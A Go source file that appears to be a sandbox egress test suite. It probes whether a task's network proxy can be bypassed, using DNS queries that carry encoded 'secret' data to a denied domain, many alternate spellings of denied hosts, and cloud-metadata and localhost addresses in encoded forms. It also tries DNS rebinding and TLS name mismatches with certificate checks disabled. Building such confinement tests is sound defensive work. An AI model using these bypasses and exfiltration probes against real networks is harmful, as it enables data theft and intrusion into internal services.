//go:build linux

package attack

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// What is beyond this machine, and the attempts at getting there past a task's way
// out: P33 to P39, P45, P46. Each is an address or name of Far, which outside is
// reached without anything in between.

// far adds the attempts.
func far() {
	if c.Far == nil {
		return
	}
	if !c.Far.Open {
		farNames()
		farMatrix()
		farFlips()
		farGreetings()
		farLoans()
	}
	farAddresses()
}

// path is where an attempt asks.
func path(prop string) string { return "/" + prop + "/" + fmt.Sprint(len(tries)) }

// farNames is P33 and P34: names that carry data out.
func farNames() {
	f := c.Far
	for i, kind := range []string{"A", "TXT", "MX"} {
		name := fmt.Sprintf("c2VjcmV0%d.p33.%s", i, f.Denied)
		add("P33", "have a name looked up: "+kind, func() error {
			ctx, done := context.WithTimeout(context.Background(), waits)
			defer done()
			r := &net.Resolver{PreferGo: true}
			var err error
			switch kind {
			case "A":
				_, err = r.LookupHost(ctx, name+".")
			case "TXT":
				_, err = r.LookupTXT(ctx, name+".")
			case "MX":
				_, err = r.LookupMX(ctx, name+".")
			}
			if d, ok := errors.AsType[*net.DNSError](err); ok && !d.IsTimeout {
				return fmt.Errorf("%v: %w", err, unix.ENOENT)
			}
			return err
		})
	}
	question := query("c2VjcmV0.p33." + f.Denied)
	add("P33", "ask a name server elsewhere, by datagram", func() error {
		conn, err := net.DialTimeout("udp", net.JoinHostPort(f.Names, "53"), waits)
		if err != nil {
			return err
		}
		defer conn.Close()
		_ = conn.SetDeadline(time.Now().Add(3 * time.Second))
		if _, err := conn.Write(question); err != nil {
			return err
		}
		b := make([]byte, 1500)
		n, err := conn.Read(b)
		return answered(b[:max(n, 0)], err)
	})
	for _, port := range []string{"53", "853"} {
		for _, kind := range []string{"direct", "connect", "socks address"} {
			add("P33", "ask a name server elsewhere, by "+kind+" to port "+port, func() error {
				conn, err := reach(kind, f.Names, port, f.Names)
				if err != nil {
					return err
				}
				defer conn.Close()
				if _, err := conn.Write(append([]byte{0, byte(len(question))}, question...)); err != nil {
					return quiet(err)
				}
				b := make([]byte, 1500)
				n, err := conn.Read(b)
				if n < 2 {
					return quiet(err)
				}
				return answered(b[2:n], nil)
			})
		}
	}
	for i, kind := range []string{"connect", "get", "socks", "socks4a"} {
		host := fmt.Sprintf("c2VjcmV0%d.p34.%s", i, f.Denied)
		where := path("P34")
		add("P34", "ask for a name that carries data, by "+kind, func() error {
			if !c.Inside { // who answers for the name, which is what it is about
				if _, err := net.DefaultResolver.LookupHost(context.Background(), host); err != nil {
					return err
				}
			}
			text, err := ask(kind, host, f.DeniedAt, where)
			return came(text, err, anyServer)
		})
	}
}

// query is a question for the address of a name.
func query(name string) []byte {
	b := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(b, 0, 0, 1, 0, 1)
}

// answered says whether a name server gave an address.
func answered(b []byte, err error) error {
	if len(b) < 12 {
		return quiet(err)
	}
	if code := b[3] & 15; code != 0 || b[7] == 0 {
		return fmt.Errorf("code %d and %d addresses: %w", code, b[7], unix.ENOENT)
	}
	return nil
}

// kinds are the ways of asking that a way out has, and some that it has not.
var kinds = []string{"connect", "get", "socks", "socks address", "socks4a", "websocket", "pipelined", "another Host", "in a tunnel", "prior knowledge"}

// spellings name what may not be reached, each in a way of its own.
func spellings(allowed, denied string) []string {
	return []string{strings.ToUpper(denied), denied + ".", denied + "..", "evil" + allowed, allowed + ".evil." + denied, "x." + allowed + "." + denied, allowed + "@" + denied, denied + "@" + denied, "a:b@" + denied,
		allowed + "%00." + denied, denied + "%00." + allowed, denied + "#." + allowed, denied + "?." + allowed, denied + "/." + allowed, denied + `\.` + allowed, allowed + " " + denied, denied + "\t", denied + ":80", "[" + denied + "]"}
}

// farMatrix is P35 and P36: every way of asking, every spelling, one verdict.
func farMatrix() {
	f := c.Far
	// What answers as the allowed server, for an allowed name, is no harm.
	denied := func(at, text string) bool { return at != f.AllowedAt || strings.Contains(text, " host="+f.Denied+" ") }
	for _, kind := range kinds {
		where := path("P35")
		add("P35", "reach a host that is not allowed, by "+kind, func() error {
			text, err := ask(kind, f.Denied, f.DeniedAt, where)
			if kind == "prior knowledge" && err == nil && !c.Inside {
				return nil // whatever it says: it was reached
			}
			return came(text, err, denied)
		})
		if kind == "socks4a" || kind == "prior knowledge" {
			continue // not offered to anybody
		}
		where = path("WAY")
		add(Way, "reach a host that is allowed, by "+kind, func() error {
			text, err := ask(kind, f.Allowed, f.AllowedAt, where)
			return came(text, err, anyServer)
		})
	}
	for _, host := range spellings(f.Allowed, f.Denied) {
		for _, kind := range []string{"connect", "get", "socks"} {
			where := path("P36")
			add("P36", fmt.Sprintf("reach %q by %s", host, kind), func() error {
				if !c.Inside {
					host = f.Denied
				}
				text, err := ask(kind, host, f.DeniedAt, where)
				return came(text, err, denied)
			})
		}
	}
}

// farAddresses is P37, and P41 through the way out.
func farAddresses() {
	f := c.Far
	list := map[string][]string{
		f.Metadata:  {f.Metadata, "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "169.16689662", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]"},
		"127.0.0.1": {"127.0.0.1", "127.1", "2130706433", "017700000001", "127.0.0.1.", "0", "0.0.0.0", "localhost", "a.localhost", "[::1]", "[::]", "[::ffff:127.0.0.1]"},
		f.Private:   {f.Private}, "100.100.100.200": {"100.100.100.200"}, "192.0.0.192": {"192.0.0.192"},
	}
	task := "a task with a list"
	if f.Open {
		task = "a task with the whole network"
	}
	for at, spelled := range list {
		for _, host := range spelled {
			prop := "P37"
			if at == "127.0.0.1" && (host == at || host == "[::1]" || host == "localhost") {
				prop = "P41"
			}
			for _, kind := range []string{"connect", "get", "socks"} {
				where := path(prop)
				add(prop, fmt.Sprintf("%s: reach %q by %s", task, host, kind), func() error {
					text, err := ask(kind, host, at, where)
					return came(text, err, anyServer)
				})
			}
		}
	}
}

// farFlips is P38: names that are allowed and lead where nothing may go.
func farFlips() {
	f := c.Far
	for _, name := range f.Flips {
		for _, kind := range []string{"connect", "get", "socks", "direct"} {
			where := path("P38")
			add("P38", fmt.Sprintf("reach by the allowed name %s, by %s, what is not to be reached", name, kind), func() error {
				for range 4 { // a name may change what it says
					at := name
					if !c.Inside {
						// Whoever asks by himself takes what he is told.
						addrs, err := net.DefaultResolver.LookupHost(context.Background(), name)
						if err != nil {
							return err
						}
						at = addrs[0]
						for _, a := range addrs {
							if a != f.AllowedAt {
								at = a
							}
						}
					}
					text, err := ask(kind, name, at, where)
					if err = came(text, err, func(at, _ string) bool { return at != f.AllowedAt }); err == nil {
						return nil
					}
				}
				return errConfined
			})
		}
	}
}

// farGreetings is P39: what TLS says is not what was asked for.
func farGreetings() {
	f := c.Far
	for _, kind := range []string{"connect", "socks"} {
		for _, name := range []string{f.Denied, ""} {
			where := path("P39")
			add("P39", fmt.Sprintf("greet %q at a tunnel to an allowed host, by %s", name, kind), func() error {
				text, err := private(kind, f.Allowed, f.AllowedAt, name, get("", f.Allowed, where))
				return came(text, err, anyServer)
			})
		}
	}
	where := path("P39")
	add("P39", "name another host in a request inside TLS that is read", func() error {
		text, err := private("connect", f.Lent, f.LentAt, f.Lent, get("", f.Denied, where))
		return came(text, err, anyServer)
	})
	allowed := path("WAY")
	add(Way, "greet an allowed host by its name", func() error {
		text, err := private("connect", f.Allowed, f.AllowedAt, f.Allowed, get("", f.Allowed, allowed))
		return came(text, err, anyServer)
	})
}

// private is answer inside TLS, to a server that names itself anything.
func private(kind, host, direct, name, text string) (string, error) {
	conn, err := reach(kind, host, "443", direct)
	if err != nil {
		return "", err
	}
	t := tls.Client(conn, &tls.Config{ServerName: name, InsecureSkipVerify: true}) // an attacker does not care
	if err := t.Handshake(); err != nil {
		conn.Close()
		if _, alert := errors.AsType[tls.AlertError](err); alert {
			return "", errSaidNo(err.Error())
		}
		return "", quiet(err)
	}
	return answer(t, text)
}
